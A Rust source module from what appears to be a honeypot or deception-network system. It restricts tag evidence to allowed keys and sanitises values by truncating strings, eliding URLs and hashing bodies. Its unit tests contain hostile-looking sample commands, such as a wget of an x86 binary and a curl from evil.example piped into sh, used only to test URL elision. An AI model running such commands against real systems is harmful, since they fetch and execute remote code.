//! Tag evidence: a closed set of keys per source kind, sanitised on the way in.
//!
//! Evidence is what an analyst reads next to a tag, so it must explain the tag without ever
//! leaking what a deception network must not keep: recipient addresses, message bodies, full
//! URLs, decoded payloads, fingerprint blobs, passwords, cookies. The rule is enforced by
//! types rather than review: evidence is a map from [`EvidenceKey`] (there is no key for any of
//! those things), a key is only accepted for the kinds the spec allows it on, and every string
//! is cut and URL-elided as it enters.

use serde::Serialize;
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::borrow::Cow;
use std::collections::BTreeMap;

use crate::kind::SourceKind;

/// Whole evidence objects stay under this many bytes of JSON.
pub const MAX_EVIDENCE_BYTES: usize = 4096;
const MAX_STRING_CHARS: usize = 512;
const MAX_COMMAND_CHARS: usize = 2048;
const MAX_PATH_CHARS: usize = 1024;
const MAX_USERNAME_CHARS: usize = 128;
const MAX_TOKENS: usize = 8;
const MAX_TOKEN_CHARS: usize = 256;

macro_rules! evidence_keys {
    ($($variant:ident => $name:literal,)*) => {
        /// Every key evidence can hold, across all kinds (RULES.md §6).
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
        #[serde(rename_all = "snake_case")]
        #[allow(missing_docs)]
        pub enum EvidenceKey { $($variant,)* }

        impl EvidenceKey {
            const ALL: &'static [EvidenceKey] = &[$(EvidenceKey::$variant,)*];

            /// The JSON key.
            pub fn as_str(self) -> &'static str {
                match self { $(EvidenceKey::$variant => $name,)* }
            }
        }
    };
}

evidence_keys! {
    CommandText => "command_text",
    MatchedTokens => "matched_tokens",
    Method => "method",
    RequestPath => "request_path",
    UserAgent => "user_agent",
    MatchedPath => "matched_path",
    Namespace => "namespace",
    Service => "service",
    Username => "username",
    FailCount => "fail_count",
    PasswordCount => "password_count",
    Result => "result",
    DefaultPairId => "default_pair_id",
    BeaconIntervalS => "beacon_interval_s",
    BeaconJitterPct => "beacon_jitter_pct",
    BytesOut => "bytes_out",
    RequestCount => "request_count",
    TargetHost => "target_host",
    RowsRead => "rows_read",
    BytesRead => "bytes_read",
    ContainerImage => "container_image",
    PoisonedQuery => "poisoned_query",
    VictimHost => "victim_host",
    TftpFilename => "tftp_filename",
    SourceHost => "source_host",
    MatchedSignal => "matched_signal",
    BodySha256 => "body_sha256",
    RcptCount => "rcpt_count",
    AttachmentSha256s => "attachment_sha256s",
    BodySimhash => "body_simhash",
    CampaignMessageCount => "campaign_message_count",
    CampaignRcptCount => "campaign_rcpt_count",
    RcptDomainSet => "rcpt_domain_set",
    MatchedHeaders => "matched_headers",
    MatchedKit => "matched_kit",
    MatchedTrigger => "matched_trigger",
    MatchedUrlHost => "matched_url_host",
    MatchedSignals => "matched_signals",
    MatchedSubjectKw => "matched_subject_kw",
    MatchedBodyKw => "matched_body_kw",
    EncodedByteCount => "encoded_byte_count",
    TokenId => "token_id",
    TokenKind => "token_kind",
    Channel => "channel",
    Metric => "metric",
    MatchedSignature => "matched_signature",
    Provider => "provider",
    IntelId => "intel_id",
    VerdictHash => "verdict_hash",
    AggregateVerdict => "aggregate_verdict",
    AbuseipdbScore => "abuseipdb_score",
    AbuseipdbCategories => "abuseipdb_categories",
    GreynoiseClassification => "greynoise_classification",
    GreynoiseTags => "greynoise_tags",
    GreynoiseName => "greynoise_name",
    GreynoiseNoise => "greynoise_noise",
    FeodoListed => "feodo_listed",
    MalwareFamilies => "malware_families",
    ThreatfoxThreatTypes => "threatfox_threat_types",
    ThreatfoxIocTypes => "threatfox_ioc_types",
    Multiplier => "multiplier",
    CredentialHash => "credential_hash",
    SecretKind => "secret_kind",
    TargetCount => "target_count",
    AttackerCount => "attacker_count",
    SharedPasswordHash => "shared_password_hash",
    AccountCount => "account_count",
    FingerprintType => "fingerprint_type",
    Port => "port",
    FingerprintHash => "fingerprint_hash",
    MatchedFramework => "matched_framework",
    Addr => "addr",
    MacOui => "mac_oui",
    IidKind => "iid_kind",
    Vector => "vector",
    OnIface => "on_iface",
    AttackerV4 => "attacker_v4",
    ObservedAt => "observed_at",
}

/// Who may fill a key: copied from the payload (P), derived by the core (D) or produced by
/// the matcher (M). Rules list only P and D keys in `evidence_fields`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Copied from the payload field of the same name.
    Payload,
    /// Derived by the core from another payload field.
    Derived,
    /// Produced by the matcher that fired.
    Matcher,
}

use EvidenceKey as K;
use Origin::{Derived as D, Matcher as M, Payload as P};

/// The allowed keys of each kind, with their origin.
fn allowed(kind: SourceKind) -> &'static [(EvidenceKey, Origin)] {
    match kind {
        SourceKind::Command => &[(K::CommandText, P), (K::MatchedTokens, M)],
        SourceKind::HttpRequest => &[
            (K::Method, P),
            (K::RequestPath, P),
            (K::UserAgent, P),
            (K::MatchedTokens, M),
            (K::MatchedPath, M),
            (K::Namespace, M),
        ],
        SourceKind::AuthAttempt => &[
            (K::Service, P),
            (K::Username, P),
            (K::FailCount, P),
            (K::PasswordCount, P),
            (K::Result, P),
            (K::DefaultPairId, M),
        ],
        SourceKind::Session => &[
            (K::Service, P),
            (K::BeaconIntervalS, P),
            (K::BeaconJitterPct, P),
            (K::BytesOut, P),
            (K::RequestCount, P),
            (K::TargetHost, P),
            (K::RowsRead, P),
            (K::BytesRead, P),
            (K::ContainerImage, P),
            (K::PoisonedQuery, P),
            (K::VictimHost, P),
            (K::TftpFilename, P),
            (K::SourceHost, P),
            (K::MatchedPath, M),
            (K::Namespace, M),
            (K::MatchedSignal, M),
        ],
        SourceKind::Email => &[
            (K::BodySha256, P),
            (K::RcptCount, P),
            (K::AttachmentSha256s, P),
            (K::BodySimhash, P),
            (K::CampaignMessageCount, P),
            (K::CampaignRcptCount, P),
            (K::RcptDomainSet, D),
            (K::MatchedHeaders, M),
            (K::MatchedKit, M),
            (K::MatchedTrigger, M),
            (K::MatchedUrlHost, M),
            (K::MatchedSignals, M),
            (K::MatchedSubjectKw, M),
            (K::MatchedBodyKw, M),
            (K::EncodedByteCount, M),
        ],
        SourceKind::Canary => &[(K::TokenId, P), (K::TokenKind, P), (K::Channel, P)],
        SourceKind::CanaryFingerprint => &[(K::Metric, M), (K::MatchedSignature, M)],
        SourceKind::Intel => &[
            (K::Provider, P),
            (K::IntelId, P),
            (K::VerdictHash, P),
            (K::AggregateVerdict, P),
            (K::AbuseipdbScore, P),
            (K::AbuseipdbCategories, P),
            (K::GreynoiseClassification, P),
            (K::GreynoiseTags, P),
            (K::GreynoiseName, P),
            (K::GreynoiseNoise, P),
            (K::FeodoListed, P),
            (K::MalwareFamilies, P),
            (K::ThreatfoxThreatTypes, P),
            (K::ThreatfoxIocTypes, P),
            (K::Multiplier, P),
        ],
        SourceKind::Credential => &[
            (K::CredentialHash, P),
            (K::SecretKind, P),
            (K::TargetCount, P),
            (K::AttackerCount, P),
        ],
        SourceKind::Identity => &[(K::SharedPasswordHash, P), (K::AccountCount, P)],
        SourceKind::Fingerprint => &[
            (K::FingerprintType, P),
            (K::Port, P),
            (K::FingerprintHash, D),
            (K::MatchedFramework, M),
            (K::MatchedSignature, M),
        ],
        SourceKind::Ipv6Leak => &[
            (K::Addr, P),
            (K::MacOui, P),
            (K::IidKind, P),
            (K::Vector, P),
            (K::OnIface, P),
            (K::AttackerV4, P),
            (K::ObservedAt, P),
        ],
    }
}

impl EvidenceKey {
    /// Look a key up by its JSON name.
    pub fn parse(name: &str) -> Option<EvidenceKey> {
        EvidenceKey::ALL
            .iter()
            .copied()
            .find(|k| k.as_str() == name)
    }

    /// The key's origin for `kind`, or `None` when the kind does not allow it.
    pub fn origin_for(self, kind: SourceKind) -> Option<Origin> {
        allowed(kind)
            .iter()
            .find(|(k, _)| *k == self)
            .map(|(_, o)| *o)
    }

    /// The payload field a P or D key is read from.
    fn payload_field(self) -> &'static str {
        match self {
            K::RcptDomainSet => "rcpt_domains",
            K::FingerprintHash => "value",
            other => other.as_str(),
        }
    }
}

/// The evidence of one tag.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
#[serde(transparent)]
pub struct Evidence(BTreeMap<EvidenceKey, Value>);

impl Evidence {
    /// Copy the listed payload keys that `kind` allows, sanitising each value.
    pub fn from_payload(
        kind: SourceKind,
        keys: &[EvidenceKey],
        payload: &serde_json::Map<String, Value>,
    ) -> Evidence {
        let mut evidence = Evidence::default();
        for &key in keys {
            if !matches!(key.origin_for(kind), Some(P | D)) {
                continue;
            }
            let raw = payload.get(key.payload_field()).filter(|v| !v.is_null());
            if let Some(value) = raw.and_then(|v| derive(key, v)) {
                evidence.insert(kind, key, value);
            } else if key == K::BodySha256
                && let Some(body) = payload.get("body_text").and_then(Value::as_str)
            {
                // The body itself never enters evidence; its hash may.
                let digest = Sha256::digest(body.as_bytes());
                let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
                evidence.insert(kind, key, Value::from(hex));
            }
        }
        evidence
    }

    /// Add a matcher-produced value; a key the kind does not allow is ignored.
    pub fn insert(&mut self, kind: SourceKind, key: EvidenceKey, value: Value) {
        if key.origin_for(kind).is_none() || value.is_null() {
            return;
        }
        self.0.insert(key, sanitise(key, value));
    }

    /// Add the matched tokens of a regex (URL-elided, bounded).
    pub fn insert_tokens(&mut self, kind: SourceKind, tokens: &[&str]) {
        if K::MatchedTokens.origin_for(kind).is_none() {
            return;
        }
        // Built sanitised in one pass rather than through `insert`, which would copy each
        // token twice: this runs for every regex tag.
        let list = tokens
            .iter()
            .take(MAX_TOKENS)
            .map(|t| Value::from(cut_chars(&elide_urls(t), MAX_TOKEN_CHARS).into_owned()))
            .collect();
        self.0.insert(K::MatchedTokens, Value::Array(list));
    }

    /// Read one key back.
    pub fn get(&self, key: EvidenceKey) -> Option<&Value> {
        self.0.get(&key)
    }

    /// Whether there is no key at all (`{}` on the wire).
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Cut the longest strings until the JSON fits [`MAX_EVIDENCE_BYTES`].
    pub fn bound(mut self) -> Evidence {
        // Serialising to measure costs more than the whole rule evaluation; an upper bound
        // of the JSON size (exact for strings, generous for numbers) skips it for almost
        // every tag.
        if self.size_bound(raw_size_bound) <= MAX_EVIDENCE_BYTES
            || self.size_bound(json_size_bound) <= MAX_EVIDENCE_BYTES
        {
            return self;
        }
        while serde_json::to_vec(&self).map_or(0, |v| v.len()) > MAX_EVIDENCE_BYTES {
            // Halve the longest non-empty string; when none is left, halve the longest list
            // (a list of numbers, or of strings already cut to nothing). Each step shrinks
            // the object, so this ends.
            let longest = self
                .0
                .values_mut()
                .flat_map(strings_mut)
                .filter(|s| !s.is_empty())
                .max_by_key(|s| s.len());
            if let Some(longest) = longest {
                let keep = longest.chars().count() / 2;
                *longest = cut_chars(longest, keep).into_owned();
                continue;
            }
            let list = self
                .0
                .values_mut()
                .filter_map(|v| v.as_array_mut())
                .filter(|items| !items.is_empty())
                .max_by_key(|items| items.len());
            match list {
                Some(items) => items.truncate(items.len() / 2),
                None => break,
            }
        }
        self
    }
}

impl Evidence {
    fn size_bound(&self, value_bound: fn(&Value) -> usize) -> usize {
        2 + self
            .0
            .iter()
            .map(|(k, v)| k.as_str().len() + 4 + value_bound(v))
            .sum::<usize>()
    }
}

/// At least the length of `value` as compact JSON, without looking at its bytes: every byte
/// of a string counted as the six of a `\u00XX` escape. Small evidence passes this at once.
fn raw_size_bound(value: &Value) -> usize {
    match value {
        Value::String(s) => 2 + 6 * s.len(),
        Value::Array(items) => 2 + items.iter().map(|v| raw_size_bound(v) + 1).sum::<usize>(),
        Value::Object(map) => {
            2 + map
                .iter()
                .map(|(k, v)| 6 * k.len() + 4 + raw_size_bound(v))
                .sum::<usize>()
        }
        _ => 24,
    }
}

/// At least the length of `value` as compact JSON: exact for strings.
fn json_size_bound(value: &Value) -> usize {
    match value {
        Value::String(s) => {
            2 + s
                .bytes()
                .map(|b| match b {
                    b'"' | b'\\' | b'\n' | b'\r' | b'\t' | 0x08 | 0x0c => 2,
                    0..=0x1f => 6,
                    _ => 1,
                })
                .sum::<usize>()
        }
        Value::Array(items) => 2 + items.iter().map(|v| json_size_bound(v) + 1).sum::<usize>(),
        Value::Object(map) => {
            2 + map
                .iter()
                .map(|(k, v)| k.len() + 4 + json_size_bound(v))
                .sum::<usize>()
        }
        // Numbers, booleans and null: the longest f64 text is 24 bytes.
        _ => 24,
    }
}

fn strings_mut(value: &mut Value) -> Vec<&mut String> {
    match value {
        Value::String(s) => vec![s],
        Value::Array(items) => items.iter_mut().flat_map(strings_mut).collect(),
        _ => Vec::new(),
    }
}

/// The value a P or D key takes from its payload field, before sanitising.
fn derive(key: EvidenceKey, raw: &Value) -> Option<Value> {
    match key {
        K::RcptDomainSet => {
            let mut domains: Vec<String> = raw
                .as_array()?
                .iter()
                .filter_map(Value::as_str)
                .map(domain_of)
                .filter(|d| !d.is_empty())
                .collect();
            domains.sort();
            domains.dedup();
            Some(Value::from(domains))
        }
        K::FingerprintHash => raw.as_str().map(|v| Value::from(v.to_ascii_lowercase())),
        K::RequestPath => raw.as_str().map(|p| Value::from(strip_query(p))),
        _ => Some(raw.clone()),
    }
}

/// The domain of an address or a bare domain: the part after the last `@`, lowercased.
pub fn domain_of(text: &str) -> String {
    let domain = text.rsplit('@').next().unwrap_or_default();
    domain.trim().to_lowercase()
}

fn strip_query(path: &str) -> &str {
    path.split(['?', '#']).next().unwrap_or_default()
}

/// Apply the per-key bounds to a value.
fn sanitise(key: EvidenceKey, value: Value) -> Value {
    let string = |s: String, max: usize| match cut_chars(&s, max) {
        Cow::Borrowed(cut) if cut.len() == s.len() => Value::String(s),
        cut => Value::from(cut.into_owned()),
    };
    match (key, value) {
        (K::CommandText, Value::String(s)) => match elide_urls(&s) {
            Cow::Borrowed(_) => string(s, MAX_COMMAND_CHARS),
            Cow::Owned(elided) => string(elided, MAX_COMMAND_CHARS),
        },
        (K::MatchedTokens, Value::Array(items)) => Value::Array(
            items
                .into_iter()
                .take(MAX_TOKENS)
                .filter_map(|v| {
                    v.as_str().map(|s| {
                        Value::from(cut_chars(&elide_urls(s), MAX_TOKEN_CHARS).into_owned())
                    })
                })
                .collect(),
        ),
        (K::RequestPath, Value::String(s)) => {
            Value::from(cut_chars(strip_query(&s), MAX_PATH_CHARS).into_owned())
        }
        (K::Username, Value::String(s)) => string(s, MAX_USERNAME_CHARS),
        (_, Value::String(s)) => string(s, MAX_STRING_CHARS),
        (_, Value::Array(items)) => Value::Array(
            items
                .into_iter()
                .map(|v| match v {
                    Value::String(s) => string(s, MAX_STRING_CHARS),
                    other => other,
                })
                .collect(),
        ),
        (_, other) => other,
    }
}

/// The first `max` characters of `s`.
pub fn cut_chars(s: &str, max: usize) -> Cow<'_, str> {
    if s.len() <= max {
        return Cow::Borrowed(s);
    }
    match s.char_indices().nth(max) {
        Some((at, _)) => Cow::Borrowed(&s[..at]),
        None => Cow::Borrowed(s),
    }
}

/// Characters that end a URL inside a shell command or a header value.
fn ends_url(c: char) -> bool {
    c.is_whitespace() || "'`\"|;&<>()".contains(c)
}

/// Reduce every URL in `text` to `scheme://host[:port]`, followed by `/…` when anything came
/// after the authority; user-info is dropped.
///
/// Every `://` starts a URL, whatever precedes it: when in doubt the text loses detail rather
/// than keep a path or a query. A hand-written scan rather than a regex with captures: this
/// runs on every tag that carries a command, and capture groups cost more than the rule
/// evaluation itself.
pub fn elide_urls(text: &str) -> Cow<'_, str> {
    // Most commands hold no URL: a memchr for ':' rejects them before any substring search.
    if !text.as_bytes().contains(&b':') || !text.contains("://") {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let after = &rest[at + 3..];
        let url_len = after.find(ends_url).unwrap_or(after.len());
        let (url, tail) = after.split_at(url_len);
        // User-info ends at the last `@` before the path; it may hold `?` or `#` (a typed
        // password), which must not be taken for the end of the host.
        let before_path = url.find('/').unwrap_or(url.len());
        let host_start = url[..before_path].rfind('@').map_or(0, |i| i + 1);
        let host_len = url[host_start..]
            .find(['/', '?', '#'])
            .unwrap_or(url.len() - host_start);
        let host = &url[host_start..host_start + host_len];
        let path = &url[host_start + host_len..];
        out.push_str(&rest[..at + 3]);
        out.push_str(host);
        if !path.is_empty() {
            out.push_str("/…");
        }
        rest = tail;
    }
    out.push_str(rest);
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn payload(v: &Value) -> serde_json::Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    #[test]
    fn urls_are_elided_to_scheme_and_host() {
        let cases = [
            (
                "wget http://198.51.100.9/x86 -O /tmp/x",
                "wget http://198.51.100.9/… -O /tmp/x",
            ),
            (
                "curl https://user:pw@evil.example:8443/a?b=c|sh",
                "curl https://evil.example:8443/…|sh",
            ),
            ("ldap://198.51.100.7:1389", "ldap://198.51.100.7:1389"),
            ("echo no url here", "echo no url here"),
            (
                "a_http://u@h.example/x y hxxp://h2/?q",
                "a_http://h.example/… y hxxp://h2/…",
            ),
            ("x=ftp://a@b@c.example;ls", "x=ftp://c.example;ls"),
            (
                "curl -o /tmp/x http://admin:hunt?er2@198.51.100.9/x",
                "curl -o /tmp/x http://198.51.100.9/…",
            ),
            ("http://u:p#w@h.example", "http://h.example"),
        ];
        for (input, want) in cases {
            assert_eq!(elide_urls(input), want, "{input}");
        }
    }

    #[test]
    fn only_allowed_keys_enter() {
        let p = payload(&json!({"command_text": "id", "password": "hunter2", "method": "GET"}));
        let keys = [K::CommandText, K::Method];
        let ev = Evidence::from_payload(SourceKind::Command, &keys, &p);
        assert_eq!(
            serde_json::to_value(&ev).unwrap(),
            json!({"command_text": "id"})
        );
    }

    #[test]
    fn request_path_never_keeps_a_query() {
        let p = payload(&json!({"request_path": "/login?user=bob&pw=x"}));
        let ev = Evidence::from_payload(SourceKind::HttpRequest, &[K::RequestPath], &p);
        assert_eq!(ev.get(K::RequestPath), Some(&json!("/login")));
    }

    #[test]
    fn recipient_domains_become_a_sorted_set() {
        let p = payload(
            &json!({"rcpt_domains": ["B.example", "a.example", "b.example", "x@c.example"]}),
        );
        let ev = Evidence::from_payload(SourceKind::Email, &[K::RcptDomainSet], &p);
        assert_eq!(
            ev.get(K::RcptDomainSet),
            Some(&json!(["a.example", "b.example", "c.example"]))
        );
    }

    #[test]
    fn evidence_is_bounded_to_four_kib() {
        let long = "a".repeat(10_000);
        let p = payload(&json!({"command_text": long}));
        let mut ev = Evidence::from_payload(SourceKind::Command, &[K::CommandText], &p);
        let token = "b".repeat(300);
        ev.insert_tokens(SourceKind::Command, &[token.as_str(); 8]);
        let ev = ev.bound();
        let len = serde_json::to_vec(&ev).unwrap().len();
        assert!(len <= MAX_EVIDENCE_BYTES, "{len}");
        let tokens = ev.get(K::MatchedTokens).unwrap().as_array().unwrap();
        assert_eq!(tokens.len(), 8);
    }

    #[test]
    fn escapes_count_towards_the_bound() {
        // Control characters serialise as \u0001: six bytes each.
        let p = payload(&json!({"command_text": "\u{1}".repeat(1500)}));
        let ev = Evidence::from_payload(SourceKind::Command, &[K::CommandText], &p).bound();
        let len = serde_json::to_vec(&ev).unwrap().len();
        assert!(len <= MAX_EVIDENCE_BYTES, "{len}");
        assert!(
            len > MAX_EVIDENCE_BYTES / 2,
            "cut no more than needed: {len}"
        );
    }

    #[test]
    fn long_lists_of_numbers_are_cut_too() {
        let mut ev = Evidence::default();
        ev.insert(
            SourceKind::Email,
            K::AttachmentSha256s,
            Value::from(vec![0; 3000]),
        );
        ev.insert(SourceKind::Email, K::BodySha256, Value::from(""));
        let ev = ev.bound();
        let len = serde_json::to_vec(&ev).unwrap().len();
        assert!(len <= MAX_EVIDENCE_BYTES, "{len}");
    }

    #[test]
    fn key_names_round_trip() {
        for key in EvidenceKey::ALL {
            assert_eq!(EvidenceKey::parse(key.as_str()), Some(*key));
            assert_eq!(serde_json::to_value(key).unwrap(), json!(key.as_str()));
        }
    }
}
